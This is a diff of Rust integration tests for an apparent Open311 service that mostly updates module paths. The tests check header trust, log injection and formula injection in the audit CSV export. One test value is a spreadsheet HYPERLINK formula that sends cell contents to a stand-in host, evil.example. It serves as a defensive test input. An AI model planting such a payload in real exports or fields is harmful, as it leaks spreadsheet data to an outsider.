@@ -33,9 +33,10 @@ fn urlencode(s: &str) -> String {
 #[tokio::test]
 async fn forwarded_for_and_host_are_believed_only_as_configured() {
     let app = TestApp::spawn().await;
-    let region = linli::domain::region::RegionCode::parse("141102001002").unwrap();
-    let scopes = [linli::app::token::Scope::Open311];
-    let key = app.app.create_token(&linli::app::audit::Actor::cli(), "fixit", &scopes, &region).await.unwrap().1;
+    let region = linli::domain::registry::region::RegionCode::parse("141102001002").unwrap();
+    let scopes = [linli::app::access::token::Scope::Open311];
+    let key =
+        app.app.create_token(&linli::app::access::audit::Actor::cli(), "fixit", &scopes, &region).await.unwrap().1;
     let res = app
         .client
         .post(app.url("/open311/v2/requests.json"))
@@ -68,7 +69,8 @@ async fn forwarded_for_and_host_are_believed_only_as_configured() {
         g.public_url = common::flag("https://linli.example.cn".into());
     })
     .await;
-    let key = app.app.create_token(&linli::app::audit::Actor::cli(), "fixit", &scopes, &region).await.unwrap().1;
+    let key =
+        app.app.create_token(&linli::app::access::audit::Actor::cli(), "fixit", &scopes, &region).await.unwrap().1;
     let res = app
         .client
         .post(app.url("/open311/v2/requests.json"))
@@ -104,7 +106,7 @@ async fn a_request_id_cannot_write_into_the_log() {
 async fn no_cell_of_the_audit_export_runs_as_a_formula() {
     let app = TestApp::spawn().await;
     let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")";
-    let actor = linli::app::audit::Actor { id: None, label: evil.into(), role: String::new(), ip: "-".into() };
+    let actor = linli::app::access::audit::Actor { id: None, label: evil.into(), role: String::new(), ip: "-".into() };
     app.app.note_export(&actor, "signin.failure", evil, json!({})).await.unwrap();
     let mut admin = signed_in(&app, "admin", "system_admin", "141102").await;
     let (status, _, bytes) = admin.get_bytes("/admin/audit.csv").await;
